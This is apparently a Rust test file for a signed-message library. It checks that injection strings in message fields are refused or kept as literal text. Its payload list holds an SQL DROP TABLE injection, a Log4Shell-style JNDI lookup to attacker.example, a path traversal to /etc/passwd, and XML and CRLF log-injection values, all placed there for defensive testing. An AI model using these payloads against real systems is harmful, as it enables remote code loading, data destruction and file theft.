//! Text of a sender that would be a command in another language: SQL, a log line, a header, markup.

use kezek::clock;
use kezek::envelope::{Code, Envelope};
use kezek::signature::{Distrust, verify};

use crate::authority::{DIRECTORY, STORE, send_message, signer};

const COMMANDS: &[&str] = &[
    "'; DROP TABLE application; --",
    "%s%n${jndi:ldap://attacker.example/a}",
    "../../etc/passwd",
    "kezek.answer.other",
    "&lt;/messageId&gt;&lt;messageId&gt;other",
    "<![CDATA[</messageId><messageId>other]]>",
];

/// Character references to what would begin a line or end a text elsewhere.
const CONTROLS: &[&str] = &[
    "a&#13;&#10;level=INFO",
    "a&#10;b",
    "a&#9;b",
    "a&#x7F;b",
    "a&#x85;b",
];

#[test]
fn text_that_is_a_command_elsewhere_is_refused_or_stays_text() {
    let content = send_message("egov-mobile");
    let with = |name: &str, old: &str, text: &str| {
        let from = format!("<{name}>{old}</{name}>");
        assert!(content.contains(&from), "{name}");
        let content = content.replacen(&from, &format!("<{name}>{text}</{name}>"), 1);
        let message = signer("participant").sign(&content, None);
        let envelope = Envelope::read(message.as_bytes()).expect("an envelope");
        verify(envelope, &STORE, clock::now()).expect("well signed")
    };
    let places = [
        ("messageId", "6f1c2f9e-0001"),
        ("serviceId", "S-08"),
        ("senderId", "egov-mobile"),
    ];
    for (name, old) in places {
        for text in CONTROLS {
            let told = with(name, old, text).request().map(|_| ()).expect_err(name);
            assert_eq!(told.code(), Code::InfoValue, "{name}: {text}");
        }
    }
    for text in COMMANDS {
        let plain = text.replace("&lt;", "<").replace("&gt;", ">");
        let plain = plain.replace("<![CDATA[", "").replace("]]>", "");
        let trusted = with("messageId", "6f1c2f9e-0001", text);
        let request = trusted.request().expect("text is text");
        assert_eq!(request.message_id.as_deref(), Some(&*plain));
        let trusted = with("senderId", "egov-mobile", text);
        let request = trusted.request().expect("text is text");
        let certificate = trusted.verified().certificate();
        let told = DIRECTORY.speaker(certificate, &request).map(|_| ());
        assert_eq!(told, Err(Distrust::SenderUnknown), "{text}");
    }
}
